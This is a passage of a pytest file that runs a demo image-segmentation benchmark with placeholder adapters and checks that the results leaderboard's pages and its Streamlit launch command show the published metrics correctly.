    runs, res = tmp / "runs", tmp / "results"
    cmd = [sys.executable, "-m", "bench.cli", "run", "--suite", "demo", "--adapter", "empty,random",
           "--perturb", "legion", "--limit", "12", "--out", str(runs), "--no-progress"]
    done = subprocess.run(cmd, capture_output=True, text=True, timeout=900)
    assert done.returncode == 0, done.stderr[-3000:]
    for name in ("empty", "random"):
        done = subprocess.run([sys.executable, "-m", "bench.cli", "publish", str(runs / name), "--results", str(res)],
                              capture_output=True, text=True, timeout=120)
        assert done.returncode == 0, done.stderr[-3000:]
    return res


@pytest.mark.slow
def test_every_page_on_a_real_demo_run(demo_results: Path, monkeypatch) -> None:
    monkeypatch.setenv("BENCH_RESULTS_DIR", str(demo_results))
    files = sorted(demo_results.glob("demo/*/results.json"))
    assert len(files) == 2
    written = {d["adapter"]["name"]: d for d in (json.loads(f.read_text()) for f in files)}
    conds = [c["key"] for c in written["empty"]["conditions"]]
    assert len(conds) == 10 and conds[0] == "clean"

    at = open_page("leaderboard", {"cond": conds})
    t = table_with(at, "empty")
    assert set(adapters(t)) == {"empty", "random"}
    for name, d in written.items():
        for c in d["conditions"]:
            for m, v in c["metrics"].items():
                if v["value"] is None:
                    assert math.isnan(value(t, name, m, c["key"]))
                else:
                    assert value(t, name, m, c["key"]) == pytest.approx(100 * v["value"]), (name, m, c["key"])

    at = open_page("robustness")
    assert at.selectbox(key="rb_metric").value == "miou"
    assert len(at.get("vega_lite_chart")) == 3  # jpeg, gaussian_noise, gaussian_blur
    drops = [x for x in tables(at) if "drop (points)" in x.columns][0]
    assert len(drops) == 2 * 9
    row = drops[(drops["adapter"] == "random") & (drops["condition"] == "jpeg(quality=20)")].iloc[0]
    cm = {c["key"]: c["metrics"]["miou"]["value"] for c in written["random"]["conditions"]}
    assert row["drop (points)"] == pytest.approx(100 * (cm["clean"] - cm["jpeg(quality=20)"]))

    at = open_page("samples", {"a": [f.parent.relative_to(demo_results).as_posix() for f in files
                                     if "/empty__" in f.as_posix()][0], "gallery": "0"})
    assert len(tables(at)[0]) == 12
    assert len(at.image) >= 3  # the runner's gallery is drawn (image, ground truth, prediction)
    at = open_page("samples", {"a": [f.parent.relative_to(demo_results).as_posix() for f in files
                                     if "/empty__" in f.as_posix()][0], "cond": "jpeg(quality=20)"})
    assert at.image[0].proto.imgs[0].caption == "image fed to the model (jpeg(quality=20))"

    at = open_page("protocol")
    code = [c.value for c in at.code]
    assert code[0].startswith("bench run --suite demo --perturb legion --adapter ")  # rebuilt: no --out
    assert code[0].endswith(" --limit 12")
    runs_t = tables(at)[-1]
    assert set(runs_t["fingerprint"]) == {written["empty"]["dataset"]["fingerprint"]}


def test_leaderboard_command(tmp_path: Path, capsys) -> None:
    from bench.cli import main
    from bench.cli.leaderboard import app_path, streamlit_argv

    assert main(["leaderboard", "--results", str(tmp_path / "nope")]) == 2
    assert "results folder" in capsys.readouterr().err
    argv = streamlit_argv(tmp_path, 8999, headless=True, address="127.0.0.1")
    assert argv[1:4] == ["-m", "streamlit", "run"] and argv[4] == str(app_path()) == str(APP)
    assert argv[argv.index("--server.port") + 1] == "8999"
    assert argv[-3:] == ["--", "--results", str(tmp_path)]
